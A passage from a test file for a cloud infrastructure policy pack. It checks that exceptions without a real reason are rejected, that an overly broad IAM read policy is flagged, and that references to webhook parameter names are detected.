      for (const reason of [" ", "\u200b", "\u2060\u00ad", "\u200e \u3000", "- . —"]) {
        const withoutReason = await resourceViolations(
          share,
          OTHER_PROJECT,
          excepting({ resource: `${share.type}::${share.name}`, reason }),
        );
        assert.deepEqual(
          withoutReason,
          [
            {
              policy: "webhooks-access-judged",
              message:
                `${blocked.message} The exception for this resource in the pack's config gives no reason (a ` +
                `reason holds letters or digits): an exception counts only with one.`,
            },
          ],
          JSON.stringify(reason),
        );
      }
      assert.deepEqual(
        await resourceViolations(
          share,
          OTHER_PROJECT,
          excepting({ resource: `${share.type}::other`, reason }),
        ),
        [blocked],
      );
    });

    it("leaves the other policies to judge it", async () => {
      const readEverything = {
        type: "aws:iam/policy:Policy",
        name: "reader",
        props: { policy: document({ Effect: "Allow", Action: "ssm:GetParameters", Resource: "*" }) },
      };
      const config = excepting({ resource: `${readEverything.type}::reader`, reason });
      assert.deepEqual(
        (await resourceViolations(readEverything, OTHER_PROJECT, config)).map(({ policy }) => policy),
        ["notifier-least-privilege"],
      );
    });
  });
});

describe("references to the receiver parameters", () => {
  it("skips values a preview does not know yet, and reads them once the update knows them", () => {
    const unknown = "04da6b54-80e4-46f7-96ec-b56ff0331ba9";
    const props = unknownCheckingProxy({ resourceArn: PARAMETER_ARN, resourceShareArn: unknown });
    assert.deepEqual(webhooksReferences(props), [{ at: "resourceArn", shown: `"${PARAMETER_ARN}"` }]);
    assert.deepEqual(webhooksReferences(unknownCheckingProxy({ resourceArn: unknown })), []);
  });

  it("names map keys that are parameter names, and each name once per input", () => {
    assert.deepEqual(webhooksReferences({ secrets: { [NAME]: "x" }, both: `${NAME} ${NAME}` }), [
      { at: `secrets["${NAME}"]`, shown: `"${NAME}"` },
      { at: "both", shown: `"${NAME}"` },
    ]);
  });
});
